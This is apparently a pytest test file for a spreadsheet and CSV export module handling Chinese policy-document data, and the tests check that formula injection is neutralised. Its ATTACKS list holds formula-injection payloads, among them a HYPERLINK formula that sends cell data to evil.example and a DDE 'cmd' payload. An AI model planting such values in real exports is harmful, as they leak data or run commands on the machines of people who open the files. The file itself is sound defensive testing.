import csv
import io
import unicodedata
import zipfile
from collections.abc import Sequence
from typing import Any

import pytest
from openpyxl import load_workbook

from assistant.exports.sheets import LONGEST_CELL, Column, Row, Value, as_xlsx
from assistant.exports.tables import DUTY_COLUMNS, TARGET_COLUMNS, as_csv, as_table, requirement_of
from assistant.types import Comparator, Target, TargetKind
from tests.web.samples import DUTIES, NOTE, PROMOTION, SPLIT, TARGETS, TEXT, TITLE, within

ONE: tuple[Column[Any], ...] = (Column("格", lambda value: value, 10),)
"""A column that shows its row, whatever that is."""

ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
)


def read_xlsx(data: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def table(columns: Sequence[Column[Row]], rows: Sequence[Row]) -> list[list[Value]]:
    """What a reader of an export must find."""
    values = [[column.value(row) for column in columns] for row in rows]
    shown = {True: "是", False: "否"}
    return [
        [column.title for column in columns],
        *([shown[v] if isinstance(v, bool) else None if v == "" else v for v in row] for row in values),
    ]


def as_text(values: list[list[Value]]) -> list[list[str]]:
    return [["" if value is None else str(value) for value in row] for row in values]


def test_duties_have_these_columns() -> None:
    titles, first, *_, last = table(DUTY_COLUMNS, DUTIES)
    assert titles == [
        "单位",
        "角色",
        "现机构",
        "名单未完",
        "文件",
        "章",
        "条款",
        "原文",
        "条款编号",
        "起",
        "止",
    ]
    name = within(TEXT, "海口海关")
    place = ["二、构筑优势", "二、(六)外贸", NOTE, "notice#2.6"]
    assert first == ["海口海关", "牵头", None, "否", TITLE, *place, name.start, name.end]
    assert last[:4] == ["省旅游文化厅", "牵头", None, "是"] and last[7] == PROMOTION


def test_targets_have_these_columns() -> None:
    titles, *rows = table(TARGET_COLUMNS, TARGETS)
    assert titles == [
        "指标",
        "动作",
        "要求",
        "数值",
        "上限",
        "单位",
        "期限",
        "基年",
        "文件",
        "条款",
        "原文",
        "条款编号",
        "起",
        "止",
    ]
    assert [row[:8] for row in rows] == [
        ["示范区", "创建", "区间", 2, 3, "个", "2020", None],
        ["民宿的投诉处理率", None, "≥", 95, None, "%", None, None],
        ["民宿村", "建成", "等于", 10, None, "个", "2021-12-31", None],
    ]
    assert rows[2][10] == "建成民宿村10个"


def test_a_successor_is_named_in_the_export() -> None:
    (column,) = (column for column in DUTY_COLUMNS if column.title == "现机构")
    assert column.value(type(DUTIES[0])(DUTIES[0].duty, DUTIES[0].clause, DUTIES[0].document, SPLIT)) == (
        "甲局、乙<b>局（职能分拆）"
    )


@pytest.mark.parametrize(
    ("comparator", "value", "most", "unit", "expected"),
    [
        (Comparator.AT_LEAST, 98.0, None, "%", "≥ 98%"),
        (Comparator.AT_MOST, 5.0, None, "%", "≤ 5%"),
        (Comparator.EQUAL, 100.0, None, "%", "= 100%"),
        (Comparator.ABOVE, 0.15, None, "毫克", "> 0.15毫克"),
        (Comparator.BELOW, 3.5, None, "‰", "< 3.5‰"),
        (Comparator.RANGE, 2.0, 3.0, "个", "2–3个"),
        (Comparator.RANGE, 2.0, None, "个", "2个"),
        (Comparator.ABOUT, 50.0, None, "%", "约 50%"),
        (Comparator.AT_LEAST, 1e16, None, "元", "≥ 10000000000000000元"),
        (Comparator.AT_LEAST, 0.00001, None, "", "≥ 0.00001"),
    ],
)
def test_a_requirement_is_written_as_one_reads_it(
    comparator: Comparator, value: float, most: float | None, unit: str, expected: str
) -> None:
    span = within(TEXT, "创建")
    aim = Target("", "", comparator, value, most, unit, None, None, TargetKind.AIM, "", span)
    assert requirement_of(aim) == expected


def test_a_workbook_has_every_row() -> None:
    assert read_xlsx(as_xlsx(DUTY_COLUMNS, DUTIES, "职责")) == table(DUTY_COLUMNS, DUTIES)
    assert read_xlsx(as_xlsx(TARGET_COLUMNS, TARGETS, "指标")) == table(TARGET_COLUMNS, TARGETS)
    assert read_xlsx(as_xlsx(TARGET_COLUMNS, (), "指标")) == table(TARGET_COLUMNS, ())


def test_a_workbook_is_ready_to_be_read_and_filtered() -> None:
    sheet = load_workbook(io.BytesIO(as_xlsx(DUTY_COLUMNS, DUTIES, "职责"))).active
    assert sheet.title == "职责" and sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:K6"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert sheet["H2"].alignment.wrap_text
    assert [sheet.column_dimensions[letter].width for letter in "ABH"] == [22, 8, 60]


def test_a_sheet_title_is_one_that_excel_takes() -> None:
    sheet = load_workbook(io.BytesIO(as_xlsx(ONE, (), "职责/指标[1]:" + "长" * 40))).active
    assert sheet.title.startswith("职责 指标 1") and len(sheet.title) == 31


@pytest.mark.parametrize("attack", [*ATTACKS, "#N/A", "#REF!", "1e3", "2020-01-01", "true"])
def test_a_text_in_a_workbook_is_a_text(attack: str) -> None:
    sheet = load_workbook(io.BytesIO(as_xlsx(ONE, (attack,), "x"))).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == attack.replace("\r", "\n")
    assert sheet["A2"].quotePrefix == (attack in ATTACKS)


def test_a_workbook_has_no_formula_anywhere() -> None:
    with zipfile.ZipFile(io.BytesIO(as_xlsx(ONE, ATTACKS, "x"))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_numbers_in_a_workbook_are_numbers() -> None:
    assert read_xlsx(as_xlsx(ONE, (-5, 2.5, 0, None, True, False), "x"))[1:] == [
        [-5],
        [2.5],
        [0],
        [None],
        ["是"],
        ["否"],
    ]


def test_what_excel_cannot_hold_is_left_out_or_cut() -> None:
    control = "".join(map(chr, range(32))) + "\ufffe\uffff\ud800"
    _, (cleaned,), (long,), (wide,), (whole,) = read_xlsx(
        as_xlsx(ONE, (f"甲{control}乙", "长" * 40_000, "😀" * 40_000, "长" * LONGEST_CELL), "x")
    )
    assert cleaned == "甲\t\n\n乙"
    assert long == "长" * (LONGEST_CELL - 2) + "……"
    assert wide.endswith("😀……") and len(wide.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert whole == "长" * LONGEST_CELL


def test_the_same_rows_give_the_same_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    first = as_xlsx(DUTY_COLUMNS, DUTIES, "职责")
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    monkeypatch.setattr("time.localtime", lambda *_: (2033, 5, 18, 3, 33, 20, 2, 138, 0))
    assert as_xlsx(DUTY_COLUMNS, DUTIES, "职责") == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"1980-01-01T00:00:00Z</dcterms:modified>" in archive.read("docProps/core.xml")


def test_csv_has_every_row_for_excel() -> None:
    data = as_csv(DUTY_COLUMNS, DUTIES)
    assert data.startswith("\ufeff单位,角色".encode()) and data.count(b"\r\n") == len(DUTIES) + 1
    assert read_csv(data) == as_text(table(DUTY_COLUMNS, DUTIES))
    assert read_csv(as_csv(TARGET_COLUMNS, TARGETS)) == as_text(table(TARGET_COLUMNS, TARGETS))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_csv_is_disarmed(attack: str) -> None:
    assert read_csv(as_csv(ONE, (attack,))) == [["格"], [f"'{attack}"]]


def test_csv_keeps_numbers_quotes_commas_and_lines() -> None:
    values = (-5, 2.5, '说"是",好\n的', "a=1", "")
    assert read_csv(as_csv(ONE, values))[1:] == [["-5"], ["2.5"], ['说"是",好\n的'], ["a=1"], [""]]
    assert read_csv(as_csv(ONE, ("甲\x00\x1b乙",)))[1:] == [["甲乙"]]


def test_a_table_is_aligned_by_the_width_of_chinese() -> None:
    columns: tuple[Column[tuple[str, Value]], ...] = (
        Column("单位", lambda row: row[0], 10),
        Column("n", lambda row: row[1], 10),
    )
    made = as_table(columns, [("海口海关", 1), ("ABC局", None), ("e\u0301（甲）", True)])
    assert made.splitlines() == [
        "单位      n",
        "────────  ──",
        "海口海关  1",
        "ABC局",
        "e\u0301（甲）   是",
    ]


def test_a_table_obeys_no_control_characters() -> None:
    made = as_table(ONE, ("甲\x1b[31m乙\r\n丙\u2028丁\x9b",))
    assert made.splitlines()[2:] == ["甲 [31m乙 丙 丁"]


def test_a_table_cuts_nothing_and_has_a_line_a_row() -> None:
    lines = as_table(DUTY_COLUMNS, DUTIES).splitlines()
    assert len(lines) == len(DUTIES) + 2
    assert all(NOTE in line for line in lines[2:4])
    starts = {_width(line[: line.index(row.clause.id)]) for line, row in zip(lines[2:], DUTIES, strict=True)}
    assert len(starts) == 1


def _width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)
